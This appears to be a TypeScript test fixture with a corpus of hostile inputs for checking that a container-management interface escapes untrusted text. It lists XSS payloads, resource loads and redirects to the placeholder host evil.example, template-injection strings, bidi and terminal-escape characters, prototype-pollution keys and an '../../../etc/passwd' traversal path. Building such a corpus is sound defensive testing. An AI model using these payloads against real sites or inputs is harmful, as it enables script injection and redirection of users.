const EVIL = 'http://evil.example';
const ID = 'id=corpus';
const KILOBYTES = 10_000;

const MARKUP = [
  `<script ${ID}>alert(1)</script>`,
  `<script ${ID} src=${EVIL}/x.js></script>`,
  `"><script ${ID}>alert(1)</script>`,
  `'><script ${ID}>alert(1)</script>`,
  `</title><script ${ID}>alert(1)</script>`,
  `</script><script ${ID}>alert(1)</script>`,
  `<scr<script>ipt ${ID}>alert(1)</scr</script>ipt>`,
  `<SCRIPT ${ID}>alert(1)</SCRIPT>`,
  `<img ${ID} src=x onerror=alert(1)>`,
  `<img ${ID} src=${EVIL}/pixel.png>`,
  `"><img ${ID} src=x onerror="alert(1)">`,
  `<svg ${ID} onload=alert(1)>`,
  `<svg ${ID}><script>alert(1)</script></svg>`,
  `<svg ${ID}><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<math ${ID}><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<body ${ID} onload=alert(1)>`,
  `<iframe ${ID} src="javascript:alert(1)"></iframe>`,
  `<iframe ${ID} srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object ${ID} data=${EVIL}/x></object>`,
  `<embed ${ID} src=${EVIL}/x>`,
  `<link ${ID} rel=stylesheet href=${EVIL}/x.css>`,
  `<style ${ID}>@import '${EVIL}/x.css';</style>`,
  `<base ${ID} href=${EVIL}/>`,
  `<meta ${ID} http-equiv=refresh content="0;url=${EVIL}/">`,
  `<form ${ID} action=${EVIL}/><input type=submit></form>`,
  `<details ${ID} open ontoggle=alert(1)>`,
  `<input ${ID} autofocus onfocus=alert(1)>`,
  `<video ${ID}><source onerror=alert(1)></video>`,
  `<marquee ${ID} onstart=alert(1)>`,
  `<a ${ID} href="javascript:alert(1)">x</a>`,
  `<template ${ID}><script>alert(1)</script></template>`,
  `<!--><img ${ID} src=x onerror=alert(1)>-->`,
  `<![CDATA[<img ${ID} src=x onerror=alert(1)>]]>`,
  `&lt;img ${ID} src=x onerror=alert(1)&gt;`,
  `<noscript><p title="</noscript><img ${ID} src=x onerror=alert(1)>">`,
];

const CODE = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//',
  'data:text/html,<script>alert(1)</script>',
  `${EVIL}/?x`,
  `//evil.example/x`,
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)' x='",
  '`-alert(1)-`',
  "';alert(1);//",
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  `url(${EVIL}/x.png)`,
  'expression(alert(1))',
  '`<b id=corpus>`',
];

const CHARACTERS = [
  '\u202eevil\u202c gnp.exe',
  '\u2066\u2067\u2068nested\u2069',
  'zero\u200bwidth\ufeff\u00ad',
  'nul\0nul',
  '\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b[2J',
  'line\nbreak\r\nand\ttab',
  '\u2028line\u2029paragraph',
  '👩‍👩‍👧‍👦🏴‍☠️🇨🇭',
  'مرحبا بالعالم',
  'שלום עולם',
  `z${'\u0336\u0489'.repeat(40)}`,
  'half\ud800pair',
  '\ufffe\uffff',
];

const NAMES = [
  ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'null', 'undefined', 'NaN'],
  ...['../../../etc/passwd', '%00%2e%2e', '../', ' ', '.'],
];

const SIZES = ['long'.repeat(KILOBYTES / 4), `<b id=corpus>${'x'.repeat(KILOBYTES)}</b>`];

/** Text as an attacker would have it in a container's name, labels, mounts, output, and in what an engine says of it. */
export const CORPUS: readonly string[] = [...MARKUP, ...CODE, ...CHARACTERS, ...NAMES, ...SIZES];

/** One of each kind. */
export const WITNESSES: Readonly<Record<string, string>> = {
  'an element': MARKUP[0] ?? '',
  'a line that turns around': CHARACTERS[0] ?? '',
  'ten thousand letters': SIZES[1] ?? '',
};
